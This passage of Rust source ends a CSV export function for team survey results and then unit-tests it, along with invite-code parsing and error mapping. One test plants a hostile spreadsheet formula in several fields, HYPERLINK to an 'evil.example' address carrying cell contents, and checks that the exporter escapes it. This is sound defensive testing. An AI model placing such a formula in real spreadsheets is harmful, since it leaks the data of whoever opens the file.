            w.write_record(&row).map_err(err)?;
        }
        for f in &r.figures {
            let mut row: Vec<String> = base.to_vec();
            row.push(text(&f.pillar_name));
            row.push(text(f.force_name.as_deref().unwrap_or_default()));
            row.push(f.n.to_string());
            for x in [f.mean, f.sd] {
                row.push(crate::domain::Pts(x).to_string());
            }
            for i in 0..5 {
                row.push(f.histogram.get(i).copied().unwrap_or(0).to_string());
            }
            w.write_record(&row).map_err(err)?;
        }
    }
    let bytes = w
        .into_inner()
        .map_err(|e| Error::Internal(format!("csv: {e}")))?;
    String::from_utf8(bytes).map_err(|e| Error::Internal(format!("csv: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whatever text reaches the team CSV (from the server or the framework), no cell starts a formula.
    #[test]
    fn the_team_csv_runs_no_formula() {
        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        let t = TeamResults {
            team_id: "t".into(),
            rounds: vec![RoundResults {
                round_id: hostile.into(),
                number: 1,
                round_label: hostile.into(),
                state: "+shown".into(),
                label: hostile.into(),
                responses: 5,
                members: 6,
                needed: 5,
                counted: Some(5),
                pillar: None,
                mode: "@mode".into(),
                title: hostile.into(),
                created_at: Some("-2026".into()),
                closed_at: None,
                figures: vec![ResultFigure {
                    pillar: "p".into(),
                    pillar_name: "\tpillar".into(),
                    force: None,
                    force_name: Some("\rforce".into()),
                    n: 5,
                    mean: 50.0,
                    band: crate::domain::Band::Mixed,
                    sd: 3.0,
                    spread: Spread::Close,
                    spread_label: String::new(),
                    histogram: vec![0, 0, 5, 0, 0],
                    mine: None,
                }],
            }],
        };
        let csv = results_csv(&t).unwrap();
        let mut r = csv::Reader::from_reader(csv.as_bytes());
        let mut cells = 0;
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
            }
        }
        assert_eq!(cells, 19);
        assert!(csv.contains("'=HYPERLINK"));
    }

    #[test]
    fn a_code_or_its_link_gives_the_same_code() {
        assert_eq!(invite_code_of("abcd-efgh-jklm").unwrap(), "abcdefghjklm");
        assert_eq!(
            invite_code_of(" compilar://join/ABCD-EFGH-JKLM ").unwrap(),
            "ABCDEFGHJKLM"
        );
        assert_eq!(
            invite_code_of("COMPILAR://JOIN/ABCD-EFGH-JKLM").unwrap(),
            "ABCDEFGHJKLM"
        );
        assert_eq!(
            invite_code_of("compilar://join/").unwrap_err().code(),
            "empty_input"
        );
        assert_eq!(invite_code_of(" - ").unwrap_err().code(), "empty_input");
        assert_eq!(
            invite_code_of(&"A".repeat(65)).unwrap_err().code(),
            "payload_too_large"
        );
        let long_link = format!("{INVITE_LINK_PREFIX}{}", "A".repeat(65));
        assert_eq!(
            invite_code_of(&long_link).unwrap_err().code(),
            "payload_too_large"
        );
        // A link to another place is not a link of ours: its letters are not taken for a code.
        assert_eq!(
            invite_code_of("https://example.org/join/ABCD")
                .unwrap_err()
                .code(),
            "invalid_argument"
        );
    }

    #[test]
    fn an_invitation_link_opens_with_its_code_shown_in_groups() {
        assert_eq!(
            invitation_in_link("compilar://join/abcd-efgh-jklm/").unwrap(),
            "ABCD-EFGH-JKLM"
        );
        assert_eq!(
            invitation_in_link("compilar://settings")
                .unwrap_err()
                .code(),
            "invalid_argument"
        );
        assert_eq!(
            invitation_in_link("ABCD-EFGH-JKLM").unwrap_err().code(),
            "invalid_argument"
        );
        assert_eq!(
            invitation_in_link("compilar://join/").unwrap_err().code(),
            "empty_input"
        );
    }

    #[test]
    fn codes_are_shown_in_groups_of_four() {
        assert_eq!(grouped("ABCDEFGHJKLM"), "ABCD-EFGH-JKLM");
        assert_eq!(grouped("ABC"), "ABC");
    }

    #[test]
    fn the_team_functions_refusals_become_typed_errors() {
        let r = |code: &str, msg: &str| refusal(400, &json!({ "code": code, "message": msg }));
        assert_eq!(
            r("P0002", "not a member of this team").map(|e| e.to_string()),
            Some("Not a member of this team.".into())
        );
        assert_eq!(r("42501", "x").map(|e| e.code()), Some("not_facilitator"));
        assert_eq!(
            r("23514", "the last facilitator cannot leave").map(|e| e.code()),
            Some("last_facilitator")
        );
        assert_eq!(r("PT429", "x").map(|e| e.code()), Some("too_many_tries"));
        assert_eq!(r("54000", "x").map(|e| e.code()), Some("team_limit"));
        // Anything else keeps the usual handling (a missing function, a busy server).
        assert!(r("PGRST202", "x").is_none());
        assert!(refusal(503, &json!({})).is_none());
    }

    #[test]
    fn thresholds_below_three_are_refused() {
        assert!(threshold(Some(2)).is_err());
        assert_eq!(threshold(Some(3)).ok(), Some(Some(3)));
        assert_eq!(threshold(None).ok(), Some(None));
    }
}
